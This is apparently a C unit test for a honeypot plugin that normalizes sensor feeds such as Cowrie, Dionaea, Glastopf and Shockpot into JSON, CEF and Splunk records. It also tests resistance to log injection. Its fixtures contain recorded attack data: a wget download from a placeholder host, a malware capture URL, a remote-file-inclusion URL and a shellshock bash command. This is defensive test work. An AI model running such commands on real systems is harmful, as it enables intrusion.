/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The networked sinks' record formats (plugins/common/sink_format.c): the
 * normalized schema for each honeypot channel, fed payloads shaped as each
 * sensor publishes them, and the raw, CEF and Splunk renderings.  Where each
 * shape comes from (the sensor's own hpfeeds output code, field names as it
 * writes them; MHN's hpfeeds-logger processors read the same names):
 *   cowrie.sessions      cowrie/output/hpfeeds3.py (one object per closed session)
 *   kippo.sessions       kippo/dblog/hpfeeds.py (the same session object)
 *   dionaea.connections  dionaea's hpfeeds ihandler, connection_publish()
 *   dionaea.capture      dionaea's hpfeeds ihandler, on a completed download
 *   conpot.events        conpot/core/loggers/hpfriends.py (the session event)
 *   glastopf.events      glastopf/modules/reporting/auxiliary/log_hpfeeds.py
 *   p0f.events           MHN's p0f_hpfeeds.py (p0f's API answer per packet)
 *   snort.alerts         MHN's snort_hpfeeds.py (unified2 alert fields)
 *   suricata.events      MHN's suricata hpfeeds output (the same field names as snort)
 *   wordpot.events       wordpot's hpfeeds logger
 *   shockpot.events      shockpot.py's hpfeeds publish
 *   elastichoney.events  elastichoney's hpfeeds output (its Attack record)
 */
#include <string.h>

#include "../common/cunit_run.h"
#include "sink_format.h"

#define T0 1765083600123456LL /* 2025-12-07T05:00:00.123456Z */

static struct hpf_message msg_of(const char *channel, const char *payload, size_t len)
{
    struct hpf_message m = {
        .time_us = T0,
        .ident = "sensor-1",
        .owner = "alice",
        .channel = channel,
        .payload = (const uint8_t *)payload,
        .payload_len = len,
    };
    return m;
}

/* The normalized record of payload on channel, written and parsed back. */
static JsonObject *normalized(const char *channel, const char *payload)
{
    struct hpf_message m = msg_of(channel, payload, strlen(payload));
    GString *out = g_string_new(NULL);
    sinkfmt_append(out, SINKFMT_NORMALIZED, &m);
    JsonParser *p = json_parser_new();
    JsonObject *o = NULL;
    if (json_parser_load_from_data(p, out->str, (gssize)out->len, NULL) &&
        JSON_NODE_HOLDS_OBJECT(json_parser_get_root(p)))
        o = json_object_ref(json_node_get_object(json_parser_get_root(p)));
    CU_ASSERT_PTR_NOT_NULL(o);
    g_object_unref(p);
    g_string_free(out, TRUE);
    return o;
}

static const char *str_of(JsonObject *o, const char *name)
{
    return o ? json_object_get_string_member_with_default(o, name, "<unset>") : "<null>";
}

static gint64 int_of(JsonObject *o, const char *name)
{
    return o ? json_object_get_int_member_with_default(o, name, -1) : -2;
}

/* time, sensor, owner, channel, src/dst endpoints, protocol and transport. */
static void check_common(JsonObject *o, const char *channel, const char *src, gint64 sport,
                         const char *dst, gint64 dport, const char *proto, const char *transport)
{
    CU_ASSERT_STRING_EQUAL(str_of(o, "time"), "2025-12-07T05:00:00.123456Z");
    CU_ASSERT_STRING_EQUAL(str_of(o, "sensor"), "sensor-1");
    CU_ASSERT_STRING_EQUAL(str_of(o, "owner"), "alice");
    CU_ASSERT_STRING_EQUAL(str_of(o, "channel"), channel);
    CU_ASSERT_STRING_EQUAL(str_of(o, "src_ip"), src);
    CU_ASSERT_EQUAL(int_of(o, "src_port"), sport);
    CU_ASSERT_STRING_EQUAL(str_of(o, "dst_ip"), dst);
    CU_ASSERT_EQUAL(int_of(o, "dst_port"), dport);
    CU_ASSERT_STRING_EQUAL(str_of(o, "protocol"), proto);
    CU_ASSERT_STRING_EQUAL(str_of(o, "transport"), transport);
    CU_ASSERT_FALSE(o && json_object_has_member(o, "parse_error"));
    CU_ASSERT_FALSE(o && json_object_has_member(o, "raw"));
}

static const char COWRIE[] =
    "{\"session\": \"c0ffee01\", \"startTime\": \"2026-12-07T05:00:00.000000Z\", "
    "\"endTime\": \"2026-12-07T05:00:09.000000Z\", \"peerIP\": \"203.0.113.7\", "
    "\"peerPort\": 51234, \"hostIP\": \"192.0.2.10\", \"hostPort\": 2222, "
    "\"loggedin\": [\"root\", \"123456\"], \"protocol\": \"telnet\", "
    "\"credentials\": [[\"root\", \"admin\"], [\"root\", \"123456\"]], "
    "\"commands\": [\"uname -a\", \"wget http://198.51.100.1/x\"], \"unknownCommands\": [], "
    "\"urls\": [\"http://198.51.100.1/x\"], \"version\": \"SSH-2.0-Go\", \"ttylog\": null, "
    "\"hashes\": [\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\"]}";

static void test_cowrie(void)
{
    JsonObject *o = normalized("cowrie.sessions", COWRIE);
    check_common(o, "cowrie.sessions", "203.0.113.7", 51234, "192.0.2.10", 2222, "telnet", "tcp");
    CU_ASSERT_STRING_EQUAL(str_of(o, "session"), "c0ffee01");
    CU_ASSERT_STRING_EQUAL(str_of(o, "client_version"), "SSH-2.0-Go");
    JsonArray *creds = o ? json_object_get_array_member(o, "credentials") : NULL;
    CU_ASSERT(creds && json_array_get_length(creds) == 2);
    if (creds && json_array_get_length(creds) == 2) {
        JsonArray *second = json_array_get_array_element(creds, 1);
        CU_ASSERT_STRING_EQUAL(json_array_get_string_element(second, 1), "123456");
    }
    CU_ASSERT(o && json_array_get_length(json_object_get_array_member(o, "urls")) == 1);
    CU_ASSERT(o && json_array_get_length(json_object_get_array_member(o, "hashes")) == 1);
    if (o)
        json_object_unref(o);
}

static void test_kippo(void)
{
    JsonObject *o =
        normalized("kippo.sessions",
                   "{\"session\": \"k1\", \"peerIP\": \"198.51.100.9\", \"peerPort\": 40000, "
                   "\"hostIP\": \"192.0.2.11\", \"hostPort\": 22, \"loggedin\": null, "
                   "\"credentials\": [[\"admin\", \"admin\"]], \"urls\": [], "
                   "\"commands\": [], \"version\": \"SSH-2.0-libssh\", \"ttylog\": null, "
                   "\"startTime\": \"2014-05-01 10:00:00\", \"endTime\": "
                   "\"2014-05-01 10:00:03\"}");
    check_common(o, "kippo.sessions", "198.51.100.9", 40000, "192.0.2.11", 22, "ssh", "tcp");
    CU_ASSERT_FALSE(o && json_object_has_member(o, "login")); /* null is left out */
    CU_ASSERT(o && json_array_get_length(json_object_get_array_member(o, "credentials")) == 1);
    if (o)
        json_object_unref(o);
}

static void test_dionaea(void)
{
    JsonObject *o = normalized("dionaea.connections",
                               "{\"tags\": [], \"connection_type\": \"accept\", "
                               "\"connection_transport\": \"tcp\", \"connection_protocol\": "
                               "\"smbd\", \"remote_host\": \"203.0.113.20\", \"remote_port\": "
                               "49152, \"remote_hostname\": \"\", \"local_host\": \"192.0.2.12\", "
                               "\"local_port\": 445}");
    check_common(o, "dionaea.connections", "203.0.113.20", 49152, "192.0.2.12", 445, "smbd", "tcp");
    CU_ASSERT_STRING_EQUAL(str_of(o, "connection_type"), "accept");
    CU_ASSERT_FALSE(o && json_object_has_member(o, "src_hostname")); /* empty: left out */
    if (o)
        json_object_unref(o);

    /* Ports arrive as strings in capture events. */
    o = normalized("dionaea.capture",
                   "{\"url\": \"http://203.0.113.20/a.exe\", \"saddr\": \"203.0.113.20\", "
                   "\"sport\": \"1033\", \"daddr\": \"192.0.2.12\", \"dport\": \"445\", "
                   "\"md5\": \"d41d8cd98f00b204e9800998ecf8427e\", \"sha512\": \"cf83e135\"}");
    CU_ASSERT_EQUAL(int_of(o, "src_port"), 1033);
    CU_ASSERT_EQUAL(int_of(o, "dst_port"), 445);
    CU_ASSERT_STRING_EQUAL(str_of(o, "md5"), "d41d8cd98f00b204e9800998ecf8427e");
    CU_ASSERT_STRING_EQUAL(str_of(o, "sha512"), "cf83e135");
    CU_ASSERT_STRING_EQUAL(str_of(o, "url"), "http://203.0.113.20/a.exe");
    if (o)
        json_object_unref(o);
}

static void test_conpot_glastopf(void)
{
    JsonObject *o = normalized("conpot.events",
                               "{\"id\": \"9f2c\", \"remote\": [\"203.0.113.30\", 50210], "
                               "\"data_type\": \"modbus\", \"timestamp\": "
                               "\"2026-12-07T05:00:00.000000\", \"public_ip\": \"192.0.2.13\", "
                               "\"data\": {\"request\": \"0001\", \"function_code\": 1}}");
    CU_ASSERT_STRING_EQUAL(str_of(o, "src_ip"), "203.0.113.30");
    CU_ASSERT_EQUAL(int_of(o, "src_port"), 50210);
    CU_ASSERT_STRING_EQUAL(str_of(o, "dst_ip"), "192.0.2.13");
    CU_ASSERT_STRING_EQUAL(str_of(o, "protocol"), "modbus");
    CU_ASSERT(o && JSON_NODE_HOLDS_OBJECT(json_object_get_member(o, "details")));
    if (o)
        json_object_unref(o);

    o = normalized("glastopf.events",
                   "{\"pattern\": \"rfi\", \"time\": \"2026-12-07 05:00:00\", \"filename\": "
                   "\"a1b2.txt\", \"source\": [\"203.0.113.40\", 33000], \"request\": "
                   "{\"url\": \"/index.php?p=http://x/y\", \"method\": \"GET\", \"header\": "
                   "{\"Host\": \"www.example.org\"}}}");
    CU_ASSERT_STRING_EQUAL(str_of(o, "src_ip"), "203.0.113.40");
    CU_ASSERT_EQUAL(int_of(o, "src_port"), 33000);
    CU_ASSERT_EQUAL(int_of(o, "dst_port"), 80);
    CU_ASSERT_STRING_EQUAL(str_of(o, "url"), "/index.php?p=http://x/y");
    CU_ASSERT_STRING_EQUAL(str_of(o, "http_host"), "www.example.org");
    CU_ASSERT_STRING_EQUAL(str_of(o, "pattern"), "rfi");
    CU_ASSERT_STRING_EQUAL(str_of(o, "protocol"), "http");
    if (o)
        json_object_unref(o);
}

static void test_p0f_snort_suricata(void)
{
    JsonObject *o =
        normalized("p0f.events", "{\"client_ip\": \"203.0.113.50\", \"client_port\": \"40001\", "
                                 "\"server_ip\": \"192.0.2.14\", \"server_port\": \"22\", "
                                 "\"os\": \"Linux 3.11 and newer\", \"app\": \"???\", "
                                 "\"link\": \"Ethernet or modem\", \"uptime\": \"3 days\"}");
    check_common(o, "p0f.events", "203.0.113.50", 40001, "192.0.2.14", 22, "<unset>", "tcp");
    CU_ASSERT_STRING_EQUAL(str_of(o, "os"), "Linux 3.11 and newer");
    if (o)
        json_object_unref(o);

    o = normalized("snort.alerts",
                   "{\"header\": \"1:2001219:20\", \"signature\": \"ET SCAN Potential SSH Scan\", "
                   "\"classification\": \"Attempted Information Leak\", \"priority\": 2, "
                   "\"protocol\": \"TCP\", \"source_ip\": \"203.0.113.60\", \"source_port\": "
                   "40002, \"destination_ip\": \"192.0.2.15\", \"destination_port\": 22, "
                   "\"id\": 1, \"ttl\": 50}");
    check_common(o, "snort.alerts", "203.0.113.60", 40002, "192.0.2.15", 22, "<unset>", "tcp");
    CU_ASSERT_STRING_EQUAL(str_of(o, "signature"), "ET SCAN Potential SSH Scan");
    CU_ASSERT_EQUAL(int_of(o, "priority"), 2);
    if (o)
        json_object_unref(o);

    o = normalized("suricata.events",
                   "{\"signature\": \"ET POLICY curl User-Agent\", \"signature_id\": 2013028, "
                   "\"action\": \"allowed\", \"protocol\": \"TCP\", \"source_ip\": "
                   "\"203.0.113.61\", \"source_port\": 40003, \"destination_ip\": "
                   "\"192.0.2.16\", \"destination_port\": 80}");
    check_common(o, "suricata.events", "203.0.113.61", 40003, "192.0.2.16", 80, "<unset>", "tcp");
    CU_ASSERT_EQUAL(int_of(o, "signature_id"), 2013028);
    if (o)
        json_object_unref(o);
}

static void test_http_pots(void)
{
    JsonObject *o =
        normalized("wordpot.events", "{\"source_ip\": \"203.0.113.70\", \"source_port\": 40004, "
                                     "\"dest_ip\": \"192.0.2.17\", \"dest_port\": 80, "
                                     "\"url\": \"/wp-login.php\"}");
    check_common(o, "wordpot.events", "203.0.113.70", 40004, "192.0.2.17", 80, "http", "tcp");
    CU_ASSERT_STRING_EQUAL(str_of(o, "url"), "/wp-login.php");
    if (o)
        json_object_unref(o);

    o = normalized("shockpot.events",
                   "{\"source_ip\": \"203.0.113.71\", \"dest_port\": 80, \"url\": "
                   "\"http://192.0.2.18/cgi-bin/test\", \"command\": \"/bin/bash -c id\", "
                   "\"command_data\": null, \"is_shellshock\": true}");
    CU_ASSERT_STRING_EQUAL(str_of(o, "src_ip"), "203.0.113.71");
    CU_ASSERT_EQUAL(int_of(o, "dst_port"), 80);
    CU_ASSERT_STRING_EQUAL(str_of(o, "command"), "/bin/bash -c id");
    if (o)
        json_object_unref(o);

    o = normalized("elastichoney.events",
                   "{\"source\": \"203.0.113.72\", \"honeypot\": \"192.0.2.19\", \"type\": "
                   "\"attack\", \"method\": \"POST\", \"url\": \"/_search\", \"form\": \"\", "
                   "\"payload\": \"{\\\"script\\\": 1}\", \"headers\": {\"user_agent\": "
                   "\"curl/7.0\"}}");
    CU_ASSERT_STRING_EQUAL(str_of(o, "src_ip"), "203.0.113.72");
    CU_ASSERT_STRING_EQUAL(str_of(o, "dst_ip"), "192.0.2.19");
    CU_ASSERT_EQUAL(int_of(o, "dst_port"), 9200);
    CU_ASSERT_STRING_EQUAL(str_of(o, "user_agent"), "curl/7.0");
    CU_ASSERT_STRING_EQUAL(str_of(o, "payload"), "{\"script\": 1}");
    if (o)
        json_object_unref(o);
}

/* Never dropped: raw and parse_error instead. */
static void test_unparsable(void)
{
    JsonObject *o = normalized("cowrie.sessions", "not json {");
    CU_ASSERT_STRING_EQUAL(str_of(o, "raw"), "not json {");
    CU_ASSERT_STRING_EQUAL(str_of(o, "sensor"), "sensor-1");
    CU_ASSERT(strstr(str_of(o, "parse_error"), "not JSON") != NULL);
    if (o)
        json_object_unref(o);

    o = normalized("snort.alerts", "[1, 2]");
    CU_ASSERT_STRING_EQUAL(str_of(o, "parse_error"), "payload is not a JSON object");
    if (o)
        json_object_unref(o);

    GString *deep = g_string_new("{\"a\":");
    for (int i = 0; i < 100000; i++)
        g_string_append_c(deep, '[');
    o = normalized("p0f.events", deep->str);
    CU_ASSERT(strstr(str_of(o, "parse_error"), "nested more than 64") != NULL);
    g_string_free(deep, TRUE);
    if (o)
        json_object_unref(o);

    static const char bin[] = {'\x01', '\x00', '\xff', '{'};
    struct hpf_message m = msg_of("dionaea.capture", bin, sizeof bin);
    JsonObject *b = sinkfmt_normalize(&m);
    CU_ASSERT_STRING_EQUAL(str_of(b, "raw_b64"), "AQD/ew==");
    CU_ASSERT_STRING_EQUAL(str_of(b, "parse_error"), "payload is not UTF-8 text");
    json_object_unref(b);

    /* A channel without a mapping keeps its payload, without an error. */
    o = normalized("my.own", "{\"x\": 1}");
    CU_ASSERT_STRING_EQUAL(str_of(o, "raw"), "{\"x\": 1}");
    CU_ASSERT_FALSE(o && json_object_has_member(o, "parse_error"));
    if (o)
        json_object_unref(o);
}

static char *render(enum sinkfmt_kind kind, const char *channel, const char *payload)
{
    struct hpf_message m = msg_of(channel, payload, strlen(payload));
    GString *out = g_string_new(NULL);
    sinkfmt_append(out, kind, &m);
    return g_string_free(out, FALSE);
}

/* True when s holds no C0, DEL, C1 (as UTF-8) nor U+2028/U+2029. */
static bool free_of_controls(const char *s)
{
    for (const unsigned char *p = (const unsigned char *)s; *p; p++)
        if (*p < 0x20 || *p == 0x7f || (p[0] == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f) ||
            (p[0] == 0xe2 && p[1] == 0x80 && (p[2] == 0xa8 || p[2] == 0xa9)))
            return false;
    return true;
}

/* A publisher must not forge a line or an event with CR, VT, FF, ESC, DEL, NEL, LS, PS. */
static void test_controls_escaped(void)
{
    const char *evil = "a\rb\vc\fd\x1b"
                       "e\x7f"
                       "f\xc2\x85g\xe2\x80\xa8h\xe2\x80\xa9i\tj\nk";
    const char *want = "a\\rb\\u000Bc\\u000Cd\\u001Be\\u007Ff\\u0085g\\u2028h\\u2029i\\tj\\nk";
    char *s = render(SINKFMT_SPLUNK, "my.own", evil);
    CU_ASSERT(free_of_controls(s));
    char *field = g_strdup_printf("raw=\"%s\"", want);
    CU_ASSERT_PTR_NOT_NULL(strstr(s, field));
    g_free(field);
    g_free(s);

    s = render(SINKFMT_CEF, "my.own", evil);
    CU_ASSERT(free_of_controls(s));
    field = g_strdup_printf(" raw=%s", want);
    CU_ASSERT_PTR_NOT_NULL(strstr(s, field));
    g_free(field);
    g_free(s);
}

static unsigned criticals;

static void count_critical(const gchar *domain, GLogLevelFlags level, const gchar *text,
                           gpointer data)
{
    criticals++;
}

/* An empty payload: a parse_error, and no json-glib assertion on the way. */
static void test_empty_payload(void)
{
    criticals = 0;
    guint id =
        g_log_set_handler("Json", G_LOG_LEVEL_CRITICAL | G_LOG_LEVEL_WARNING, count_critical, NULL);
    JsonObject *o = normalized("cowrie.sessions", "");
    CU_ASSERT_STRING_EQUAL(str_of(o, "parse_error"), "payload is empty");
    CU_ASSERT_STRING_EQUAL(str_of(o, "raw"), "");
    if (o)
        json_object_unref(o);
    char *s = render(SINKFMT_SPLUNK, "cowrie.sessions", "");
    CU_ASSERT_PTR_NOT_NULL(strstr(s, "parse_error=\"payload is empty\""));
    g_free(s);
    g_log_remove_handler("Json", id);
    CU_ASSERT_EQUAL(criticals, 0);
}

/* A \u0000 would cut a value short: refused, and `raw` keeps the whole text. */
static void test_nul_in_string(void)
{
    const char *p = "{\"peerIP\": \"203.0.113.7\", \"session\": \"ab\\u0000cd\"}";
    JsonObject *o = normalized("cowrie.sessions", p);
    CU_ASSERT_STRING_EQUAL(str_of(o, "raw"), p);
    CU_ASSERT(strstr(str_of(o, "parse_error"), "NUL") != NULL);
    CU_ASSERT_FALSE(o && json_object_has_member(o, "session"));
    if (o)
        json_object_unref(o);

    /* An escaped backslash before "u0000" is no NUL. */
    o = normalized("cowrie.sessions", "{\"session\": \"ab\\\\u0000cd\"}");
    CU_ASSERT_STRING_EQUAL(str_of(o, "session"), "ab\\u0000cd");
    CU_ASSERT_FALSE(o && json_object_has_member(o, "parse_error"));
    if (o)
        json_object_unref(o);
}

static void test_raw_cef_splunk(void)
{
    char *s = render(SINKFMT_RAW, "x", "as \"is\"\n");
    CU_ASSERT_STRING_EQUAL(s, "as \"is\"\n");
    g_free(s);

    const char *p = "{\"source_ip\": \"203.0.113.70\", \"source_port\": 1, \"dest_ip\": "
                    "\"192.0.2.17\", \"dest_port\": 80, \"url\": \"/a=b|c\\\\d\"}";
    s = render(SINKFMT_CEF, "wordpot.events", p);
    CU_ASSERT_STRING_EQUAL(s, "CEF:0|hpfriends|hpfriends|" PLUGIN_VERSION
                              "|wordpot.events|wordpot.events|3|rt=1765083600123 "
                              "cs1Label=channel dvchost=sensor-1 owner=alice cs1=wordpot.events "
                              "app=http proto=tcp src=203.0.113.70 spt=1 dst=192.0.2.17 dpt=80 "
                              "request=/a\\=b|c\\\\d");
    g_free(s);

    s = render(SINKFMT_SPLUNK, "my.own", "say \"hi\"\n");
    CU_ASSERT_STRING_EQUAL(s, "time=\"2025-12-07T05:00:00.123456Z\" sensor=\"sensor-1\" "
                              "owner=\"alice\" channel=\"my.own\" raw=\"say \\\"hi\\\"\\n\"");
    g_free(s);

    enum sinkfmt_kind k;
    CU_ASSERT(sinkfmt_parse("cef", &k) && k == SINKFMT_CEF);
    CU_ASSERT_FALSE(sinkfmt_parse("xml", &k));
    CU_ASSERT_FALSE(sinkfmt_parse(NULL, &k));
}

/* Control characters are escaped (json-glib's own writer misses U+001F). */
static void test_json_escapes(void)
{
    char *s = render(SINKFMT_NORMALIZED, "my.own",
                     "a\x1f"
                     "b\"\\");
    CU_ASSERT(strstr(s, "\"raw\":\"a\\u001fb\\\"\\\\\"") != NULL);
    g_free(s);
    struct hpf_message m = msg_of("c", "\xff\x00", 2);
    GString *out = g_string_new(NULL);
    sinkfmt_append_envelope(out, &m);
    CU_ASSERT_STRING_EQUAL(out->str, "{\"time\":\"2025-12-07T05:00:00.123456Z\",\"ident\":"
                                     "\"sensor-1\",\"owner\":\"alice\",\"channel\":\"c\","
                                     "\"payload_b64\":\"/wA=\"}");
    g_string_free(out, TRUE);
}

int main(void)
{
    static const struct test_case cases[] = {
        {"cowrie.sessions", test_cowrie},
        {"kippo.sessions", test_kippo},
        {"dionaea.connections and dionaea.capture", test_dionaea},
        {"conpot.events and glastopf.events", test_conpot_glastopf},
        {"p0f.events, snort.alerts, suricata.events", test_p0f_snort_suricata},
        {"wordpot, shockpot, elastichoney", test_http_pots},
        {"unparsable payloads keep raw and parse_error", test_unparsable},
        {"raw, cef and splunk renderings", test_raw_cef_splunk},
        {"cef and splunk escape every control character", test_controls_escaped},
        {"an empty payload: parse_error, no json-glib assertion", test_empty_payload},
        {"a NUL in a JSON string: refused, raw kept whole", test_nul_in_string},
        {"JSON escapes", test_json_escapes},
        {NULL, NULL},
    };
    return cunit_run("sink_format", cases);
}
